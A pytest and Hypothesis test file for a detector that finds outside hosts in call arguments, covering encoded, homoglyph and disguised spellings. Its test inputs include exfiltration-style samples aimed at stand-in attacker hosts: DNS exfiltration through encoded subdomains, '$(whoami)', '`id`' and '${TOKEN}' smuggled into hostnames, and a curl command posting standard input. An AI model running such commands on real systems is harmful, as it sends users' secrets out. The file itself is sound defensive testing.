"""What a call's arguments name of the world outside is found in every spelling, and ordinary words are not taken for hosts."""

from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ringfence.core.flow.web.outside import MOST_OUTSIDE, MOST_TEXT, UNREAD, Outside, names_outside, names_own_thing

OWN = ("corp.example", "*.corp.example", "b\u00fccher.example", "localhost")
A = "a.example"


def hosts(text: str, own: tuple[str, ...] = OWN) -> set[str]:
    return {found.host for found in names_outside({"text": text}, own)}


FORMS = [
    ("see https://a.example/?d=4711", "url"),
    ("see //a.example/x", "url"),
    ("ssh://git@a.example:22/x", "url"),
    ("jdbc:postgresql://a.example/db", "url"),
    ("wss:a.example", "url"),
    ("https:/a.example", "url"),
    ("http:///a.example", "url"),
    ("https:\\\\a.example\\x", "url"),
    ("\\\\a.example\\share", "url"),
    ("https://corp.example@a.example/", "url"),
    ("https://user:corp.example@a.example:8443/", "url"),
    ("https://a.example.:443/", "url"),
    ("https://*.a.example/", "url"),
    ("\\url{https://a.example}", "url"),
    ("**https://a.example**!", "url"),
    ("https://corp.example/url?u=https://a.example/", "url"),
    ("https://corp.example/https://a.example", "url"),
    ("https://corp.example/url?u=//a.example", "url"),
    ("![i](https://a.example/i.png)", "image"),
    ("![i]( <//a.example/i.png>)", "image"),
    ("![i][ref]\n\n[ref]: https://a.example/i", "image"),
    ("![ref]\n\n[Ref]: <https://a.example/i>", "image"),
    ("[i][ref]\n\n[ref]: https://a.example/i", "link"),
    ("[![i](https://corp.example/i)](https://a.example)", "link"),
    ("[i](https://a.example 'title')", "link"),
    ("<https://a.example>", "link"),
    ("<a href=https://a.example>", "link"),
    ("<img src='//a.example/x'>", "image"),
    ('<img srcset="/own 1x, https://a.example/b 2x">', "image"),
    ("<div style=\"background: url('https://a.example/x')\">", "image"),
    ("mail bob@a.example.", "address"),
    ("<bob.o'hara+x@a.example>", "address"),
    ("git@a.example:x/y.git", "address"),
    ("ask @a.example", "name"),
    ("fix the thing\n\nRefs: a.example", "name"),
    ("nslookup a.example", "name"),
    ("curl -d @- a.example:80/x", "name"),
    ("A.EXAMPLE", "name"),
    ("_a.example_", "name"),
    ("why? a.example, because", "name"),
]
SPELLED = [
    "https%3A%2F%2Fa.example%2Fx",
    "https%253A%252F%252Fa.example",
    "https%25253A//a.example",
    "https://a%2Eexample",
    "https://%61.example",
    "%61%2Eexample",
    "https://\uff41.example",
    "https://a\u3002example",
    "https\uff1a\uff0f\uff0fa\uff0eexample",
    "\U0001d41a.example",
    "https://a\u00ad.exam\u200bple",
    "a\u2060.example",
    "https:\\/\\/a.example\\/x",
    "\\u0068ttps:\\u002f\\u002fa\\u002eexample",
    '{"u": "{\\"v\\": \\"https:\\\\/\\\\/a.example\\"}"}',
    "say\\na.example",
    "x%0Aa.example",
    "u%3Da.example",
    "u%253Da.example",
    "a&period;example",
    "&#104;ttps&colon;&sol;&#x2f;a.example",
    "a&#46;example",
    "HTTPS://A.Example",
    "https://a.example:0443",
    "https://a.example\\@corp.example",
]


@pytest.mark.parametrize(("text", "form"), FORMS)
def test_each_form_is_found_and_named(text: str, form: str) -> None:
    assert names_outside({"text": text}, OWN) == (Outside("/text", A, form),)


@pytest.mark.parametrize("text", SPELLED)
def test_each_spelling_is_read_as_the_one_host(text: str) -> None:
    assert A in hosts(text)


@pytest.mark.parametrize("text", [text for text, _ in FORMS] + SPELLED)
def test_what_is_found_outside_is_not_found_where_it_is_ones_own(text: str) -> None:
    # Of a name that is cut in two by a character that nobody sees, the second half is told of as well.
    assert hosts(text, (*OWN, A, "*.a.example")) <= {"ple", "exam.ple"}


@pytest.mark.parametrize(
    ("text", "host"),
    [
        ("dig 6a6f686e.646f65.data.attacker.example", "6a6f686e.646f65.data.attacker.example"),
        (f"ping {'x' * 63}.attacker.example", f"{'x' * 63}.attacker.example"),
        ("$(whoami).attacker.sh", "attacker.sh"),
        ("`id`.attacker.rs", "attacker.rs"),
        ("${TOKEN}.attacker.zzz/x", "attacker.zzz"),
        ("mfrggzdfmztwq2lknnwg23tpoa.attacker.md", "mfrggzdfmztwq2lknnwg23tpoa.attacker.md"),
        ("a.b.attacker.py", "a.b.attacker.py"),
        ("https://attacker.py", "attacker.py"),
        ("me@attacker.rs", "attacker.rs"),
        ("evil.zone5x/path", None),
        ("evil.whatever/path", "evil.whatever"),
        ("https://attacker/x", "attacker"),
        ("http://2130706433/", "2130706433"),
        ("http://0x7f.1/", "0x7f.1"),
        ("http://[2001:db8::1]:80/", "2001:db8::1"),
        ("root@192.0.2.7", "192.0.2.7"),
        ("192.0.2.7:8080", "192.0.2.7"),
        ("192.0.2.7/collect", "192.0.2.7"),
        ("https://corp.example.attacker.example", "corp.example.attacker.example"),
        ("https://corp.example%2eattacker.example", "corp.example.attacker.example"),
        ("https://corp.example\uff0eattacker.example", "corp.example.attacker.example"),
        ("https://notcorp.example", "notcorp.example"),
        ("https://corp-example", "corp-example"),
        ("https://c\u043erp.example", "c\u043erp.example".encode("idna").decode()),
        ("c\u043erp.example", "c\u043erp.example".encode("idna").decode()),
        ("stra\u00dfe.example", "xn--strae-oqa.example"),
        ("\u043f\u0440\u0438\u043c\u0435\u0440.\u0440\u0444", "xn--e1afmkfd.xn--p1ai"),
        ("\u8bf7\u8bbf\u95eeattacker.example\u5427", "attacker.example"),
        ("https://corp.example%2f.attacker.example", "corp.example/.attacker.example"),
        ("https://corp.example%00.attacker.example", "corp.example\x00.attacker.example"),
        ("https://attacker.example#@corp.example/", "attacker.example"),
        ("https://attacker.example?@corp.example/", "attacker.example"),
        ("https://corp.example#.attacker.example", "attacker.example"),
        ("https://corp.example\n.attacker.example", "attacker.example"),
        ("https://corp.example,attacker.example", "attacker.example"),
        ("mongodb://corp.example:1,attacker.example:1", "attacker.example"),
        ("https://corp.example;.attacker.zzz/", "attacker.zzz"),
        ("https://corp.example\n.attacker.zzz/", "attacker.zzz"),
        ("https://attacker.zzz\u2044.corp.example/", "attacker.zzz\u2044.corp.example"),
        ("me@[192.0.2.7]", "192.0.2.7"),
        ("me@[IPv6:2001:db8::1]", "2001:db8::1"),
        ("https://corp.example&x.attacker.zzz/", "x.attacker.zzz"),
        ("https://{tenant}.attacker.example", "{tenant}.attacker.example"),
        ("cor\u200dp.example", "p.example"),
        ("https://cor\u200dp.example", "cor\u200dp.example"),
    ],
)
def test_what_is_made_to_look_like_something_else_is_found(text: str, host: str | None) -> None:
    assert (host in hosts(text)) if host else not hosts(text)


@pytest.mark.parametrize(
    "text",
    [
        "report.pdf main.py lib.rs run.sh README.md README.de.md foo.test.py index.d.ts lib.so.1 a.out Makefile.am app.tf",
        "versions 1.2.3, v2.0.1-rc.1, 10.0.0.0/8, 192.0.2.7 and 3.11",
        "e.g. i.e. z.B. U.S. Ph.D. a.m. etc.",
        "...",
        "a..b",
        ".",
        "com.example.Class org.apache.kafka.clients java.util.List com.maker.app",
        "and/or either.",
        "done.It works. See below.Is it?",
        "log.info('x') model.to(device) requests.post(u) self.id user.id o.id",
        "import os.path; np.array",
        "console.log(x) //console.log(x)",
        "@app.route('/x') @pytest.fixture lodash@4.17.21 @types/node actions/checkout@v4.1 pkg@1.2.3-beta.x @alice",
        "// TODO: fix this",
        "a//b",
        "x = total//self.count",
        "C:\\Users\\anna\\new.txt",
        "file:///etc/hosts",
        "(https://corp.example),main.py",
        "https://corp.example&a=b.c",
        "see https://corp.example, or 'https://corp.example'.",
        "sqlite:///x.db",
        "2026-03-04T10:11:12.001Z INFO shop.api request=1f GET /orders/7 200 3ms from 10.0.3.4",
        "12:30",
        "https://",
        "http:8080",
        "conf.d/site.conf src/app.module.ts foo.git/hooks Chart.yaml/x",
        "ASP.NET and VB.NET",
        "100%",
        "50 %2 &amp; 3 \\d+ \\n",
        "https://corp.example/x?y=z#w",
        "bob@mail.corp.example",
        "\\url{https://corp.example}",
        "https://CORP.example:8443.",
        "u%3Dcorp.example",
        "u%253Dcorp.example",
        "say\\ncorp.example",
        "https://b\u00fccher.example",
        "xn--bcher-kva.example",
        "b\u00fccher.example",
        "http://localhost:3000/",
        "//corp.example/x",
        "Gr\u00fc\u00dfe aus K\u00f6ln. \u4f60\u597d\u3002\u8c22\u8c22",
        "3\u00bd \u2116 5",
        "attacker[.]example",
        "node_modules/lodash.merge",
        "sha256:9f86d081",
        "key=a.b",
        "\u0645\u0631\u062d\u0628\u0627",
    ],
)
def test_ordinary_words_and_own_hosts_are_not_outside(text: str) -> None:
    assert names_outside({"text": text}, OWN) == ()


def test_below_a_host_is_not_the_host_itself() -> None:
    assert hosts("x.own.example", ("*.own.example",)) == set()
    assert hosts("own.example", ("*.own.example",)) == {"own.example"}
    assert hosts("x.own.example", ("own.example",)) == {"x.own.example"}
    assert hosts("https://own.example", ("OWN.Example.",)) == set()


def test_every_text_and_key_is_read_and_its_place_told() -> None:
    value = {"a/b": [{"c": "https://a.example"}, "b.example"], "https://k.example": 1, "n": None, "t": ("t.example",)}
    assert [(found.pointer, found.host) for found in names_outside(value, OWN)] == [
        ("/https:~1~1k.example", "k.example"),
        ("/a~1b/0/c", A),
        ("/a~1b/1", "b.example"),
        ("/t/0", "t.example"),
    ]


def test_at_most_fifty_are_told_and_a_host_once_for_each_text() -> None:
    many = " ".join(f"h{number}.example" for number in range(200))
    assert len(names_outside({"text": many}, OWN)) == MOST_OUTSIDE
    assert len(names_outside({"texts": [many] * 3}, OWN)) == MOST_OUTSIDE
    assert len(names_outside({"text": f"{A} https://{A} x@{A} " * 100}, OWN)) == 1


def test_what_lies_beyond_a_million_characters_counts_as_outside() -> None:
    assert names_outside({"a": "x" * (MOST_TEXT - 1)}, OWN) == ()
    assert names_outside({"a": "x" * (MOST_TEXT - 9), "b": "y" * 9}, OWN) == (Outside("/b", UNREAD, "name"),)


def test_a_long_key_above_many_texts_costs_no_more_than_itself() -> None:
    assert names_outside({"k" * 400_000: {str(number): "x" for number in range(20_000)}}, OWN) == ()


LABEL = st.from_regex(r"[a-z][a-z0-9]{0,8}", fullmatch=True)
ENDS = st.sampled_from(["com", "example", "io", "de"])
NAMES = st.builds(lambda labels, last: ".".join([*labels, last]), st.lists(LABEL, min_size=1, max_size=4), ENDS).filter(
    lambda name: name.partition(".")[0] not in {"com", "net", "org", "io", "edu", "gov", "java", "asp", "ado", "vb", "system"}
)
WRITTEN = st.sampled_from(
    [
        "{}",
        "https://{}/x",
        "x@{}",
        "![a](http://{})",
        "[a]: //{}",
        "<a href='{}'>",
        "u=https%3A%2F%2F{}",
        "%2F%2F{}",
        "https:\\/\\/{}",
        "see {}, or",
        "({})",
        "`{}`",
        '"{}"',
        "$(id).{}",
        "dig +short {}.",
    ]
)
WORDS = st.text(st.sampled_from("ab1./\\%&;:@#?=<>[]()!{}\"'`-_~ \n\t25Fu0\u00e9\u3002\uff0f\u200b\u200d|,$"), max_size=30)
SPELLINGS = [
    str.upper,
    str.title,
    lambda name: "".join(chr(ord(char) + 0xFEE0) for char in name),
    lambda name: name.replace(".", "\u3002"),
    lambda name: name.replace(".", "%2E"),
    lambda name: "".join(f"%{ord(char):02x}" for char in name),
    lambda name: "".join(f"\\u{ord(char):04x}" for char in name),
    lambda name: "".join(f"&#{ord(char)};" for char in name),
    lambda name: "\u00ad".join(name),
    lambda name: "".join(chr(0x1D41A + ord(char) - 97) if char.isalpha() else char for char in name),
    lambda name: f"{name}.",
]  # fmt: skip


@given(NAMES, WRITTEN)
def test_a_host_is_found_however_it_stands(name: str, written: str) -> None:
    assert name in hosts(written.format(name))


@given(NAMES, WRITTEN, WORDS, WORDS, WORDS)
def test_adding_words_never_takes_one_away(name: str, written: str, within: str, before: str, behind: str) -> None:
    text = f"{within} {written.format(name)}"
    few = hosts(text)
    assert few <= hosts(f"{before}\n{text} {behind}")
    assert name in few


@given(NAMES, st.sampled_from(SPELLINGS))
def test_every_spelling_of_a_host_is_the_same_host(name: str, spelled: Any) -> None:
    assert name in hosts(f"https://{spelled(name)}/x")


@given(NAMES, st.sampled_from(SPELLINGS))
def test_every_spelling_of_ones_own_host_is_ones_own(name: str, spelled: Any) -> None:
    text = spelled(name)
    if "\u00ad" not in text:
        assert hosts(f"https://{text}/x", (name,)) == set()


@given(NAMES, LABEL)
def test_a_host_below_another_ones_name_is_not_own(name: str, label: str) -> None:
    mine = (f"{label}.corp.example", f"*.{label}.corp.example")
    assert hosts(f"https://{label}.corp.example.{name}/", mine) == {f"{label}.corp.example.{name}"}
    assert hosts(f"https://x{label}.corp.example/", mine) == {f"x{label}.corp.example"}


@given(st.recursive(st.one_of(WORDS, st.integers(), st.none()), lambda inner: st.one_of(
    st.lists(inner, max_size=4), st.dictionaries(WORDS, inner, max_size=4)
), max_leaves=12), st.text(st.characters(), max_size=60))  # fmt: skip
def test_no_text_is_too_odd_to_be_read(value: Any, text: str) -> None:
    assert all(len(found.host) <= 253 for found in names_outside({"value": value, text: f"https://{text} x@{text}"}, OWN))


@pytest.mark.parametrize(
    "uri",
    ["memo://insights", "git://working-directory", "file:///notes/today.md", "demo+x://resource/1", " Repo://main/readme "],
)
def test_a_uri_of_its_own_scheme_names_a_thing_of_the_server(uri: str) -> None:
    assert names_own_thing(uri)


@pytest.mark.parametrize(
    "text",
    [
        "https://a.example/x",
        "HTTP://a.example",
        "//a.example/x",
        "memo://insights/?u=https://a.example",
        "memo://x@a.example",
        "memo://x/%2f%2fa.example",
        "a.example",
        "see memo://insights",
        "ftp://a.example",
        "",
    ],
)
def test_what_leads_elsewhere_is_no_thing_of_the_server(text: str) -> None:
    assert not names_own_thing(text)
